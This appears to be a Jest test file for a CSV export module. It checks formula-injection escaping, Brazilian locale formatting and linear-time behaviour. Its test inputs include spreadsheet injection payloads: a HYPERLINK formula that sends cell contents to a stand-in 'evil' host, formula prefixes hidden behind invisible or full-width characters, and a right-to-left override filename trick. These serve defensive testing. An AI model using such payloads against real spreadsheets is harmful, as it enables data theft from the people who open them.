import { describe, expect, it } from '@jest/globals';
import type { ReportLocale } from '../report.entity.js';
import type { Column, Common } from './columns.js';
import { csvHeader, csvLine } from './csv.js';
import { growth } from '../../../test/support/growth.js';

interface Row extends Common {
  readonly text: string;
}

const AT = new Date('2026-11-24T02:03:04.567Z');
const rowOf = (text: string): Row => ({ text, currency: 'BRL', createdAt: AT, metadata: null });
const TEXT: Column<Row> = { kind: 'text', of: ({ text }) => text };
const lineOf = (column: Column<Row>, text: string, locale: ReportLocale | null): string =>
  csvLine([column], rowOf(text), locale).slice(0, -2);
const written = (value: string): string => lineOf(TEXT, value, null);
const brazilian = (value: string): string => lineOf(TEXT, value, 'pt-BR');

describe('a text in a cell', () => {
  it.each([
    ['João Lima', 'João Lima'],
    ['a-b, c', '"a-b, c"'],
    ['tx_1; 20-11', 'tx_1; 20-11'],
    ['Bob \u202egnp.exe', 'Bob gnp.exe'],
    ['=1+1', "'=1+1"],
    [' \u200b=1+1', " \u200b'=1+1"],
    ['\uff1d1', "'\uff1d1"],
    ['João;=HYPERLINK("http://evil/?"&A1)', '"João;\'=HYPERLINK(""http://evil/?""&A1)"'],
    ['x";=1+1', '"x"";\'=1+1"'],
    ['x;"=1+41;y', '"x;""\'=1+41;y"'],
    ['""@SUM(1)', '"""""\'@SUM(1)"'],
    ['a\t=1+1', "a\t'=1+1"],
    ['ok\n@SUM(1)', '"ok\n\'@SUM(1)"'],
    ['a; ; \r=1', '"a; ; \r\'=1"'],
  ])('%p is not read as a formula, whatever separates the cells', (value, cell) => expect(written(value)).toBe(cell));

  it('takes a time that grows with its length, and not with its square', () => {
    expect(growth((size) => written('\n'.repeat(size) + '='.repeat(size)), 100_000)).toBeLessThan(1.5);
  });

  it('is not read as a formula in a heading', () => expect(csvHeader(['day', 'a;=1'], null)).toBe("day,a;'=1\r\n"));

  it('leaves a negative amount without an apostrophe', () => {
    const money: Column<Row> = { kind: 'money', of: () => -990 };
    expect(lineOf(money, '', null)).toBe('-9.90');
    expect(lineOf(money, '', 'pt-BR')).toBe('"-9,90"');
  });
});

describe('a file for Brazilian spreadsheets', () => {
  it('begins with a byte-order mark and Portuguese headings between semicolons', () => {
    expect(csvHeader(['day', 'net_amount', 'metadata.order_id', 'metadata.cor'], 'pt-BR')).toBe(
      '\ufeffDia;Valor líquido;Pedido;cor\r\n',
    );
  });

  it('writes days and times of São Paulo', () => {
    expect(lineOf({ kind: 'day', of: ({ createdAt }) => createdAt }, '', 'pt-BR')).toBe('23/11/2026');
    expect(lineOf({ kind: 'time', of: ({ createdAt }) => createdAt }, '', 'pt-BR')).toBe('23/11/2026 23:03:04');
    expect(lineOf({ kind: 'time', of: () => null }, '', 'pt-BR')).toBe('');
  });

  it('writes statuses in words and an unknown one as it is', () => {
    const status: Column<Row> = { kind: 'text', words: { PAID: 'Paga' }, of: ({ text }) => text };
    expect([lineOf(status, 'PAID', 'pt-BR'), lineOf(status, 'NEW', 'pt-BR'), lineOf(status, 'PAID', null)]).toEqual([
      'Paga',
      'NEW',
      'PAID',
    ]);
  });

  it.each([
    ['00012345678', '000.123.456-78'],
    ['00038166000105', '00.038.166/0001-05'],
    ['12ABC34501DE35', '12.ABC.345/01DE-35'],
  ])('writes the tax id %p as %p', (bare, text) => {
    const taxId: Column<Row> = { kind: 'tax_id', of: ({ text: value }) => value };
    expect([lineOf(taxId, bare, 'pt-BR'), lineOf(taxId, bare, null)]).toEqual([text, bare]);
  });

  it.each([
    ['1042', '1042'],
    ['0', '0'],
    ['0042', "'0042"],
    ['1234567890123456', "'1234567890123456"],
    ['1/2', "'1/2"],
    ['12E5', "'12E5"],
    ['1.5', "'1.5"],
    ['1,5', `"'1,5"`],
    ['-5', "'-5"],
    ['(5)', "'(5)"],
    ['-', "'-"],
    ['João; Lima', '"João; Lima"'],
    ['x,=1', `"x,'=1"`],
    ['E00000000202611211530abcDEF12345', 'E00000000202611211530abcDEF12345'],
  ])('keeps the text %p as it is', (value, cell) => expect(brazilian(value)).toBe(cell));

  it('looks at a text in a time that grows with its length', () => {
    expect(growth((size) => brazilian(`${'1'.repeat(size)}x`), 100_000)).toBeLessThan(1.5);
  });
});
